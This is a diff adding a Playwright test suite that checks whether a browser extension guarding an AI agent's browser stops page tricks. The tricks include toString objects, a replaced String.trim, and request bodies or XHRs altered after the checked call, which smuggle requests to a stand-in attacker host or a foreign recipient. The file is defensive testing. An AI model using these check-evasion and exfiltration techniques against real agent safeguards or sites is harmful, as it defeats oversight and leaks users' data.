@@ -1,0 +1,133 @@
+import { expect, test, type Page } from '@playwright/test';
+import { launchAgentBrowser, type AgentBrowser } from '../src/harness';
+import { buildExtension } from './fixtures/extension';
+import { startTestServer, type TestServer } from './fixtures/server';
+import { ALLOWED_HOST, ALLOWED_RECIPIENT, ATTACKER_HOST, FOREIGN_RECIPIENT, VECTOR_POLICY } from './vectors';
+
+/**
+ * Tricks a page plays on the MAIN-world hooks so that what goes differs from what was checked (found by an
+ * adaptive review, 2026-12-01): a value read twice (an object whose toString answers differently, a body
+ * changed after the call), a request re-opened while it waits, a String method replaced. Judged by the
+ * test server's log: with the extension, nothing naming the foreign recipient or carrying the code reaches
+ * a server; without it (negative control), every trick does.
+ */
+
+type Args = { allowed: string; attacker: string; bob: string; eve: string };
+/** `run` plays the trick; `direct` does plainly what the trick is after (the negative control's proof that it reaches a server). */
+type Trick = { name: string; run: (a: Args) => unknown; direct: (a: Args) => unknown };
+
+const img = ({ attacker }: Args) => {
+  const image = new Image();
+  image.src = `${attacker}/direct/c482913.gif`;
+  document.body.append(image);
+};
+const xhrToEve = ({ allowed, eve }: Args) => {
+  const xhr = new XMLHttpRequest();
+  xhr.open('POST', `${allowed}/direct`);
+  xhr.send(JSON.stringify({ to: eve }));
+};
+
+const TRICKS: Trick[] = [
+  {
+    name: 'img.src from an object whose toString changes',
+    run: ({ allowed, attacker }) => {
+      let n = 0;
+      const img = new Image();
+      img.src = { toString: () => (n++ === 0 ? `${allowed}/pixel.gif` : `${attacker}/tostring/c482913.gif`) } as unknown as string;
+      document.body.append(img);
+    },
+    direct: img,
+  },
+  {
+    name: 'img.src after String.prototype.trim is replaced',
+    run: ({ attacker }) => {
+      String.prototype.trim = () => '';
+      const img = new Image();
+      img.src = `${attacker}/trim/t482913.gif`;
+      document.body.append(img);
+    },
+    direct: img,
+  },
+  {
+    name: 'XHR body (a typed array) changed after send',
+    run: ({ allowed, bob, eve }) => {
+      const bytes = new TextEncoder().encode(JSON.stringify({ to: bob, pad: '.'.repeat(eve.length - bob.length) }));
+      const xhr = new XMLHttpRequest();
+      xhr.open('POST', `${allowed}/xhr-bytes`);
+      xhr.setRequestHeader('content-type', 'application/json');
+      xhr.send(bytes);
+      bytes.set(new TextEncoder().encode(JSON.stringify({ to: eve, pad: '' })));
+    },
+    direct: xhrToEve,
+  },
+  {
+    name: 'XHR re-opened to another method and path while it waits',
+    run: ({ allowed, bob }) => {
+      const xhr = new XMLHttpRequest();
+      xhr.open('POST', `${allowed}/checked`);
+      xhr.send(JSON.stringify({ to: bob }));
+      xhr.open('DELETE', `${allowed}/reopened/all-messages`);
+    },
+    direct: ({ allowed }) => {
+      const xhr = new XMLHttpRequest();
+      xhr.open('DELETE', `${allowed}/reopened/all-messages`);
+      xhr.send();
+    },
+  },
+  {
+    name: 'sendBeacon body (a typed array) changed after the call',
+    run: ({ allowed, bob, eve }) => {
+      const bytes = new TextEncoder().encode(JSON.stringify({ to: bob, pad: '.'.repeat(eve.length - bob.length) }));
+      navigator.sendBeacon(`${allowed}/beacon-bytes`, bytes);
+      bytes.set(new TextEncoder().encode(JSON.stringify({ to: eve, pad: '' })));
+    },
+    direct: ({ allowed, eve }) => navigator.sendBeacon(`${allowed}/direct-beacon`, JSON.stringify({ to: eve })),
+  },
+];
+
+let server: TestServer;
+test.beforeAll(async () => {
+  server = await startTestServer();
+  server.setPage('/app', '<!doctype html><title>app</title><p>app</p>');
+});
+test.afterAll(async () => server.close());
+
+/** Runs every trick in a fresh page; returns the tricks whose forbidden effect reached a server. */
+async function play(browser: AgentBrowser, how: 'run' | 'direct' = 'run'): Promise<string[]> {
+  const reached: string[] = [];
+  for (const trick of TRICKS) {
+    const before = server.requests().length;
+    const page: Page = await browser.context.newPage();
+    await page.goto(`${server.origin(ALLOWED_HOST)}/app`);
+    await page.evaluate(`(${trick[how].toString()})(${JSON.stringify({ allowed: server.origin(ALLOWED_HOST), attacker: server.origin(ATTACKER_HOST), bob: ALLOWED_RECIPIENT, eve: FOREIGN_RECIPIENT })})`);
+    await page.waitForTimeout(1_500);
+    await page.close();
+    const log = server.requests().slice(before);
+    const forbidden = log.some((r) => r.host.startsWith(ATTACKER_HOST) || r.body.includes(FOREIGN_RECIPIENT) || r.path.startsWith('/reopened'));
+    if (forbidden) reached.push(trick.name);
+  }
+  return reached;
+}
+
+for (const variant of ['full'] as const) {
+  test(`${variant} build: what goes is what was checked`, async () => {
+    test.setTimeout(120_000);
+    const browser = await launchAgentBrowser({ extensionPath: buildExtension(variant), askTimeoutSeconds: 5 });
+    try {
+      await browser.setPolicy(VECTOR_POLICY);
+      expect(await play(browser)).toEqual([]);
+    } finally {
+      await browser.close();
+    }
+  });
+}
+
+test('negative control: without the extension, what each trick is after reaches a server', async () => {
+  test.setTimeout(120_000);
+  const browser = await launchAgentBrowser({ extension: false });
+  try {
+    expect(await play(browser, 'direct')).toEqual(TRICKS.map((t) => t.name));
+  } finally {
+    await browser.close();
+  }
+});
